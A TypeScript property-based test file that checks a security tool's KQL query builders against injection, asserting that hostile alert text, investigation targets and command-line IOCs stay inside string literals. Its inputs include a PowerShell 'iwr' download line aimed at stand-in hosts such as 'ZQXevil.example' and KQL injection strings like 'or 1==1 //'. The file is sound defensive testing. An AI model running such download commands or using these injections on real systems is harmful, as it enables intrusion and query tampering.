/**
 * The query builders under hostile alerts and /investigate targets: every generated query parses
 * (Microsoft's Kusto parser, against the real table columns), is bounded in time and rows, and no
 * part of any hostile value is found outside a string literal — not in an operator, an identifier
 * or a comment. Command lines go through the command analysis, whose IOCs feed the TI queries.
 */
import fc from 'fast-check';
import { defaultSettings } from '../../src/app/deps';
import type { Alert } from '../../src/domain/alert';
import { analyzeCommand } from '../../src/domain/command-analysis';
import { normalizeAlerts } from '../../src/domain/normalize';
import {
  allQueriesFor,
  correlationQueriesFor,
  identityQueriesFor,
  iocQueries,
  subjectFromTarget,
  type CatalogueQuery,
} from '../../src/domain/investigation';
import { MARKER, hostileString, interleavedString, runs } from './hostile-text';
import { readKql } from './kql-tokens';
import { hostileRawAlertWith, SAMPLES } from './raw-alerts';

/** Long values are the card suites' business (limits); here they only slow the Kusto parser down. */
const shortHostile = fc.oneof(hostileString, interleavedString);

const MAX_WINDOW_DAYS = 100;

function queryProblems(q: CatalogueQuery): string[] {
  const problems: string[] = [];
  const reading = readKql(q.query);
  problems.push(...reading.errors.map((e) => `parse: ${e}`));
  if (reading.outsideLiterals.toUpperCase().includes(MARKER)) problems.push(`hostile text outside a string literal: ${reading.outsideLiterals.slice(0, 300)}`);
  if (!/\|\s*(top|take|limit)\s+\d+/.test(q.query)) problems.push('no row bound (top/take/limit)');
  const start = Date.parse(q.timespan.start);
  const end = Date.parse(q.timespan.end);
  if (!(end > start) || end - start > MAX_WINDOW_DAYS * 86_400_000) problems.push(`timespan ${q.timespan.start}..${q.timespan.end}`);
  return problems.length ? [`${q.name}: ${problems.join('; ')}`] : [];
}

function normalized(raw: unknown): Alert[] {
  try {
    return normalizeAlerts(raw);
  } catch {
    return [];
  }
}

const WINDOW = { start: '2026-11-26T01:00:00.000Z', end: '2026-11-26T03:00:00.000Z' };

/** The alert with hostile text in every value a plan's query takes: accounts' ids, Kubernetes names, DNS names, URL paths, the resource id, extended properties. */
function withHostileValues(alert: Alert, [a, b, c, d, e, f]: string[]): Alert {
  const kubernetes = alert.where.map((w) => (w.kind === 'kubernetes' ? { ...w, pod: a, namespace: b, clusterResourceId: `${w.clusterResourceId ?? ''}${c}` } : w));
  return {
    ...alert,
    resourceId: alert.resourceId ? `${alert.resourceId}/${d}` : alert.resourceId,
    who: alert.who.map((w) => ({ ...w, name: `${w.name}${a}`, upn: w.upn ? `${b}@${c}` : w.upn, aadUserId: w.aadUserId ? d : w.aadUserId, appId: e })),
    where: kubernetes,
    what: [...alert.what, { kind: 'domain', domain: `${e}.example` }, { kind: 'url', url: `https://x.example/${f}` }],
    extendedProperties: { ...alert.extendedProperties, 'User principal name': `${f}@x`, 'Client principal name': f!, 'Object Id': a!, 'Requested URL': `https://x.example/${f}` },
  };
}

describe('KQL from hostile input', () => {
  it('every query for a hostile alert parses, is bounded, and keeps alert text inside literals', () => {
    let queries = 0;
    fc.assert(
      fc.property(hostileRawAlertWith(shortHostile), ({ raw }) => {
        for (const alert of normalized(raw)) {
          const all = allQueriesFor(alert, defaultSettings);
          queries += all.length;
          expect(all.flatMap(queryProblems)).toEqual([]);
        }
      }),
      runs(10),
    );
    expect(queries).toBeGreaterThan(0);
  });

  it('an /investigate target of any text gives queries that keep it inside literals', () => {
    fc.assert(
      fc.property(fc.oneof(shortHostile, fc.constantFrom('198.51.100.23', 'web-vm-01', 'WEB-VM-01\\svc-backup', 'user@contoso.example')), (target) => {
        const subject = subjectFromTarget(target, WINDOW);
        const qs = [...identityQueriesFor(subject, defaultSettings), ...correlationQueriesFor(subject, defaultSettings)];
        expect(qs.flatMap(queryProblems)).toEqual([]);
      }),
      runs(15),
    );
  });

  it('IOCs extracted from a hostile command line give threat-intel queries that keep them inside literals', () => {
    const commandLine = fc
      .tuple(shortHostile, fc.constantFrom('http://ZQX.example/a', 'ZQXevil.example', '203.0.113.45', 'ZQX\' or 1==1 //.example', 'http://x/ZQX\'|take'))
      .map(([h, ioc]) => `powershell -c "iwr ${ioc}; ${h}"`);
    fc.assert(
      fc.property(commandLine, (cmd) => {
        const analysis = analyzeCommand(cmd);
        const qs = iocQueries(analysis.iocs, '2026-11-26T02:16:04.000Z');
        expect(qs.flatMap(queryProblems)).toEqual([]);
      }),
      runs(25),
    );
  });

  it('every plan’s builders keep hostile principals, pods, domains, paths, resource ids and extended properties inside literals', () => {
    const plans = Object.keys(SAMPLES).filter((k) => k.startsWith('plan-') || k.startsWith('story2-'));
    let queries = 0;
    fc.assert(
      fc.property(fc.constantFrom(...plans), fc.array(shortHostile, { minLength: 6, maxLength: 6 }), (sample, h) => {
        for (const alert of normalized(structuredClone(SAMPLES[sample]))) {
          const all = allQueriesFor(withHostileValues(alert, h), defaultSettings);
          queries += all.length;
          expect(all.flatMap(queryProblems)).toEqual([]);
        }
      }),
      runs(15),
    );
    expect(queries).toBeGreaterThan(0);
  });

  it('the checks see a value that escapes its literal (they can fail)', () => {
    const injected: CatalogueQuery = { ...identityQueriesFor(subjectFromTarget('web-vm-01', WINDOW), defaultSettings)[0]!, query: `SecurityEvent | where Computer == 'a' or Computer has '${MARKER}' // ${MARKER}\n| take 10` };
    expect(queryProblems(injected).join()).toMatch(/outside a string literal/);
  });
});
